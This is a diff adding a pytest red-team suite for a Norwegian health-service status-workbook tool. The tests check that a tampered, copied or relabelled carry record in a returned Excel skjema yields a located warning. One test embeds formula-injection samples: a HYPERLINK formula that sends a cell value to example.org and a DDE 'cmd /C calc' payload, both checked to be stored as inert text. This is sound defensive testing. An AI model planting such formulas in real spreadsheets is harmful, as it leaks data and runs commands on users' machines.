@@ -1,0 +1,308 @@
+"""Red team: a returned pre-filled skjema's carry record is untrusted input.
+
+Every way the record can be lost, edited, padded or copied from another skjema must give a
+bokmål finding that says where (file, sheet, cell) and must never count a skjema as gone through
+when it was not; and last round's hostile texts must carry as inert text.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+
+from statuskart.catalog.model import Catalogue
+from statuskart.pipeline.run import check_files
+from statuskart.validate.model import FileReport
+from statuskart.workbook import carry_record
+from statuskart.workbook import layout as L
+from statuskart.workbook.carry import CarriedAnswer, Carry, write_carried
+
+from .conftest import TODAY, raw_of
+from .test_workbook_formats import SSCONVERT, _ssconvert
+
+META = {
+    "rhf": "Helse Vest RHF",
+    "hf": "Helse Førde HF",
+    "unit": "Ambulant rusteam Dalen",
+    "unit_type": "ambulant",
+    "period": "2026-T3",
+}
+OTHER = {**META, "unit": "Ambulant rusteam Midt"}
+RECORD = carry_record.RECORD_SHEET
+Edit = Callable[[Any], None]
+
+
+def skjema(folder: Path, tsb: Catalogue, meta: dict[str, str], name: str) -> Path:
+    """A pre-filled skjema with three carried answers, for ``meta``'s unit."""
+    answers = (
+        CarriedAnswer(requirement_id="TSB-06", status="Påbegynt", comment="Noen bruker malen."),
+        CarriedAnswer(requirement_id="TSB-07", status="Implementert"),
+        CarriedAnswer(
+            requirement_id="TSB-08",
+            status="Delvis implementert",
+            action="Utpeke koordinator.",
+            owner="Enhetsleder",
+            due=dt.date(2026, 6, 1),
+        ),
+    )
+    carry = Carry(from_period="2026-T2", from_date=dt.date(2026, 5, 20), answers=answers)
+    folder.mkdir(parents=True, exist_ok=True)
+    return write_carried(tsb, folder / name, meta, carry, unit_type=str(meta["unit_type"]))
+
+
+def edited(source: Path, target: Path, edit: Edit) -> Path:
+    wb = openpyxl.load_workbook(source)
+    edit(wb)
+    wb.save(target)
+    return target
+
+
+def report_of(path: Path, catalogues: dict[str, Catalogue]) -> FileReport:
+    (report,) = check_files([path], catalogues, TODAY)
+    return report
+
+
+def last_row(wb: Any) -> int:
+    return int(wb[RECORD].max_row)
+
+
+def garbage_types(wb: Any) -> None:
+    ws = wb[RECORD]
+    ws["B1"] = 12345
+    ws.cell(row=last_row(wb), column=3).value = dt.date(2020, 1, 1)
+    ws["A2"] = True
+
+
+def formula(wb: Any) -> None:
+    wb[RECORD].cell(row=last_row(wb), column=3).value = '=HYPERLINK("https://example.org")'
+
+
+def padded(wb: Any) -> None:
+    ws = wb[RECORD]
+    for row in range(last_row(wb) + 1, last_row(wb) + 5001):
+        ws.cell(row=row, column=1, value=carry_record.ROW)
+        ws.cell(row=row, column=2, value=f"TSB-{row}")
+        ws.cell(row=row, column=3, value="0" * 16)
+
+
+def huge_text(wb: Any) -> None:
+    wb[RECORD]["B1"] = "x" * 30000
+
+
+def row_deleted(wb: Any) -> None:
+    wb[RECORD].delete_rows(last_row(wb), 1)
+
+
+def digest_edited(wb: Any) -> None:
+    wb[RECORD].cell(row=last_row(wb), column=3).value = "0" * 16
+
+
+def sheet_deleted(wb: Any) -> None:
+    wb.remove(wb[RECORD])
+
+
+def seal_deleted(wb: Any) -> None:
+    stamp = wb[L.STAMP_SHEET]
+    for row in stamp.iter_rows():
+        if row[0].value == carry_record.STAMP_KEY:
+            row[1].value = None
+
+
+@pytest.mark.parametrize(
+    ("edit", "reason", "sheet"),
+    [
+        (garbage_types, "er endret", RECORD),
+        (formula, "er endret", RECORD),
+        (padded, "er endret", RECORD),
+        (huge_text, "er endret", RECORD),
+        (row_deleted, "er endret", RECORD),
+        (digest_edited, "er endret", RECORD),
+        (sheet_deleted, "mangler", RECORD),
+        (seal_deleted, "mangler forseglingen", L.STAMP_SHEET),
+    ],
+    ids=lambda v: getattr(v, "__name__", str(v)),
+)
+def test_a_tampered_record_is_a_finding_with_its_place_never_a_confirmation(
+    tmp_path: Path,
+    tsb: Catalogue,
+    catalogues: dict[str, Catalogue],
+    edit: Edit,
+    reason: str,
+    sheet: str,
+) -> None:
+    source = skjema(tmp_path / "sent", tsb, META, "sendt.xlsx")
+    path = edited(source, tmp_path / "returned.xlsx", edit)
+    report = report_of(path, catalogues)
+    assert report.submission is not None  # a warning, the answers still count
+    assert report.carried is None  # neither confirmed nor untouched: not known
+    (found,) = [f for f in report.findings if f.code == "carry-record-invalid"]
+    assert found.severity == "warning" and reason in found.message
+    assert found.file == str(path) and found.sheet == sheet
+
+
+def copy_record(source: Path) -> Edit:
+    """Put ``source``'s record and seal into the workbook, as a leader copying sheets would."""
+
+    def edit(wb: Any) -> None:
+        other = openpyxl.load_workbook(source)
+        ws = wb[RECORD]
+        ws.delete_rows(1, ws.max_row)
+        for row in other[RECORD].iter_rows():
+            for cell in row:
+                ws.cell(row=cell.row, column=cell.column, value=cell.value)
+        seal = {r[0].value: r[1].value for r in other[L.STAMP_SHEET].iter_rows()}
+        for row in wb[L.STAMP_SHEET].iter_rows():
+            if row[0].value == carry_record.STAMP_KEY:
+                row[1].value = seal[carry_record.STAMP_KEY]
+
+    return edit
+
+
+def front(source: Path, key: str, value: object) -> Edit:
+    """Type ``value`` into the front-sheet field ``key`` (found where the reader finds it)."""
+    where = raw_of(source).meta[key]
+
+    def edit(wb: Any) -> None:
+        wb[where.sheet][where.cell] = value
+
+    return edit
+
+
+def test_a_record_from_another_units_skjema_is_not_a_confirmation(
+    tmp_path: Path, tsb: Catalogue, catalogues: dict[str, Catalogue]
+) -> None:
+    own = skjema(tmp_path / "sent", tsb, META, "own.xlsx")
+    other = skjema(tmp_path / "sent", tsb, OTHER, "other.xlsx")
+
+    # The other skjema's record is sealed and intact, but its digests are of the other unit's
+    # answers: read as this unit's, every row would count as changed and the skjema as confirmed.
+    path = edited(own, tmp_path / "copied.xlsx", copy_record(other))
+    report = report_of(path, catalogues)
+    assert report.carried is None and report.submission is not None
+    (found,) = [f for f in report.findings if f.code == "carry-record-other"]
+    assert "«Ambulant rusteam Midt» i Helse Førde HF" in found.message
+    assert found.sheet == L.FRONT_SHEET and found.cell is not None
+    assert not [f for f in report.findings if f.code == "carried-untouched"]
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "said"),
+    [("unit", "Ambulant rusteam Kysten", "enheten «Ambulant"), ("period", "2027-T1", "runden")],
+)
+def test_a_skjema_relabelled_for_another_unit_or_round_is_a_finding(
+    tmp_path: Path,
+    tsb: Catalogue,
+    catalogues: dict[str, Catalogue],
+    key: str,
+    value: str,
+    said: str,
+) -> None:
+    source = skjema(tmp_path / "sent", tsb, META, "sendt.xlsx")
+    path = edited(source, tmp_path / "relabelled.xlsx", front(source, key, value))
+    report = report_of(path, catalogues)
+    assert report.submission is not None
+    assert report.carried is None
+    (found,) = [f for f in report.findings if f.code == "carry-record-other"]
+    assert said in found.message and found.sheet == L.FRONT_SHEET
+    assert found.location.startswith(f"{L.FRONT_SHEET}!B")
+
+
+def test_a_record_for_another_catalogue_version_is_a_finding(
+    tmp_path: Path, tsb: Catalogue, catalogues: dict[str, Catalogue]
+) -> None:
+    source = skjema(tmp_path / "sent", tsb, META, "sendt.xlsx")
+
+    def version(wb: Any) -> None:  # the record and its seal, rewritten as if for another version
+        ws = wb[RECORD]
+        lines = [
+            tuple(str(c.value) if c.value is not None else "" for c in row[:3])
+            for row in ws.iter_rows()
+        ]
+        lines = [(k, "2020.1", "") if k == carry_record.VERSION else (k, v, d) for k, v, d in lines]
+        for n, (k, v, d) in enumerate(lines, start=1):
+            for col, value in enumerate((k, v, d), start=1):
+                ws.cell(row=n, column=col, value=value or None)
+        for row in wb[L.STAMP_SHEET].iter_rows():
+            if row[0].value == carry_record.STAMP_KEY:
+                row[1].value = carry_record.record_digest(lines)
+
+    report = report_of(edited(source, tmp_path / "version.xlsx", version), catalogues)
+    assert report.carried is None
+    (found,) = [f for f in report.findings if f.code == "carry-record-other"]
+    assert "katalogversjon 2020.1" in found.message and found.sheet == L.STAMP_SHEET
+
+
+def test_the_own_record_still_counts_rows_changed_and_untouched(
+    tmp_path: Path, tsb: Catalogue, catalogues: dict[str, Catalogue]
+) -> None:
+    source = skjema(tmp_path / "sent", tsb, META, "sendt.xlsx")
+    untouched = report_of(source, catalogues)
+    assert untouched.carried is not None and untouched.carried.carried == 3
+    assert untouched.carried.untouched == 3
+    assert not [f for f in untouched.findings if f.code.startswith("carry-record")]
+    record = carry_record.parse_record(
+        tuple(tuple(r) for r in openpyxl.load_workbook(source)[RECORD].values),
+        next(
+            str(r[1])
+            for r in openpyxl.load_workbook(source)[L.STAMP_SHEET].values
+            if r[0] == carry_record.STAMP_KEY
+        ),
+    )
+    assert isinstance(record, carry_record.CarryRecord)
+    assert (record.hf, record.unit, record.period) == (META["hf"], META["unit"], "2026-T3")
+    assert record.version == tsb.version
+
+
+def test_hostile_texts_from_last_round_carry_as_inert_text(
+    tmp_path: Path, tsb: Catalogue, catalogues: dict[str, Catalogue]
+) -> None:
+    hostile = {
+        "comment": '=HYPERLINK("https://example.org/?u="&Forside!B7;"klikk")',
+        "action": "+cmd|' /C calc'!A0",
+        "owner": "@SUM(1+1)",
+    }
+    long_text = "Lang tekst. " * 900  # about 10,800 characters
+    answers = (
+        CarriedAnswer(
+            requirement_id="TSB-06",
+            status="Påbegynt",
+            comment=hostile["comment"],
+            action=hostile["action"],
+            owner=hostile["owner"],
+        ),
+        CarriedAnswer(requirement_id="TSB-07", status="Påbegynt", comment=long_text),
+        CarriedAnswer(requirement_id="TSB-08", status="Påbegynt", comment="Linje\x07med\x1bstyr"),
+    )
+    carry = Carry(from_period="2026-T2", from_date=None, answers=answers)
+    path = write_carried(tsb, tmp_path / "s.xlsx", META, carry, unit_type="ambulant")
+    ws = openpyxl.load_workbook(path)[L.CHECKLIST_SHEET]
+    keys = [c.key for c in L.COLUMNS]
+    rows = {ws.cell(row=r, column=1).value: r for r in range(1, ws.max_row + 1)}
+    for key, text in hostile.items():
+        cell = ws.cell(row=rows["TSB-06"], column=keys.index(key) + 1)
+        assert cell.data_type == "s" and cell.value == text, key
+    long_cell = ws.cell(row=rows["TSB-07"], column=keys.index("comment") + 1)
+    assert long_cell.data_type == "s" and len(str(long_cell.value)) == len(long_text)
+    control = ws.cell(row=rows["TSB-08"], column=keys.index("comment") + 1).value
+    assert isinstance(control, str) and "\x07" not in control and "\x1b" not in control
+    report = report_of(path, catalogues)
+    assert report.submission is not None and report.carried is not None
+    assert report.carried.changed == 0  # what was written reads back as the same answer
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(SSCONVERT is None, reason="Gnumeric (ssconvert) is not installed")
+def test_a_carried_skjema_resaved_by_gnumeric_keeps_its_record(
+    tmp_path: Path, tsb: Catalogue, catalogues: dict[str, Catalogue]
+) -> None:
+    source = skjema(tmp_path / "sent", tsb, META, "sendt.xlsx")
+    resaved = _ssconvert(source, "xlsx", tmp_path)
+    before, after = report_of(source, catalogues), report_of(resaved, catalogues)
+    assert after.carried == before.carried and after.carried is not None
+    assert after.carried.carried == 3 and after.carried.untouched == 3
+    assert [f.code for f in after.findings if "carr" in f.code] == ["carried-untouched"]
